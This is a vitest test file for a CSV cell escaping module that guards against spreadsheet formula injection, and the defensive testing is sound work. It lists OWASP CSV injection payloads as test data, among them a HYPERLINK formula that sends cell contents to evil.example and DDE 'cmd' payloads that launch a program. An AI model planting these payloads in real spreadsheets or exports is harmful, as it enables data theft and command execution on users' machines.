import { describe, expect, it } from 'vitest';
import { fromCsvCell, toCsvCell } from './csv-cells.js';

/**
 * Whether a spreadsheet would run part of the cell as a formula: splitting at ',' or ';', it may
 * trim spaces and take a leading '"' as a text qualifier; what then starts with an apostrophe is
 * text, and what starts with a formula character is a formula.
 */
const startsAFormula = (cell: string) =>
  cell.split(/[,;]/).some((part) => /^[^\S\t\r]*"?[^\S\t\r]*[=+\-@\t\r]/.test(part));

// OWASP's CSV injection payloads, and the same behind separators, spaces and quotes.
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  ';=1+1',
  ',=1+1',
  ' =1+1',
  '  +1',
  '"=1+1',
  '\n=1+1',
  '; ;"=1+1',
  ',,@SUM(A1)',
  'Ada;=1+1',
  'Ada, -2+3',
  'x,"=1+1',
];

describe('CSV cells', () => {
  it('neutralise every OWASP payload, wherever a spreadsheet could start a cell', () => {
    for (const payload of PAYLOADS) {
      expect(startsAFormula(payload), JSON.stringify(payload)).toBe(true);
      expect(startsAFormula(toCsvCell(payload)), JSON.stringify(toCsvCell(payload))).toBe(false);
    }
    expect(toCsvCell('=1+1')).toBe("'=1+1");
    expect(toCsvCell(';=1+1')).toBe(";'=1+1");
    expect(toCsvCell(' =1+1')).toBe(" '=1+1");
    expect(toCsvCell('"=1+1')).toBe(`"'=1+1`);
    expect(toCsvCell('\t=1+1')).toBe("'\t=1+1");
    expect(toCsvCell('Ada;=1+1')).toBe("Ada;'=1+1");
  });

  it('leave text a spreadsheet reads as text alone', () => {
    for (const plain of ['Ada', 'a=b', '', "'quoted", 'Aṣọ-òkè', 'Red, blue', '5-7 days', 'a;b', '100%', '"quoted"'])
      expect(toCsvCell(plain), plain).toBe(plain);
  });

  it('write formula-like cells as text and read them back unchanged', () => {
    for (const value of [...PAYLOADS, "'=1+1", `"'=1+1`, "a,''=b", 'Aṣọ-òkè', "'quoted"])
      expect(fromCsvCell(toCsvCell(value)), JSON.stringify(value)).toBe(value);
    expect(fromCsvCell("'quoted")).toBe("'quoted");
    // A spreadsheet user's own apostrophe before a formula reads as the text after it.
    expect(fromCsvCell("'=1+1")).toBe('=1+1');
  });
});
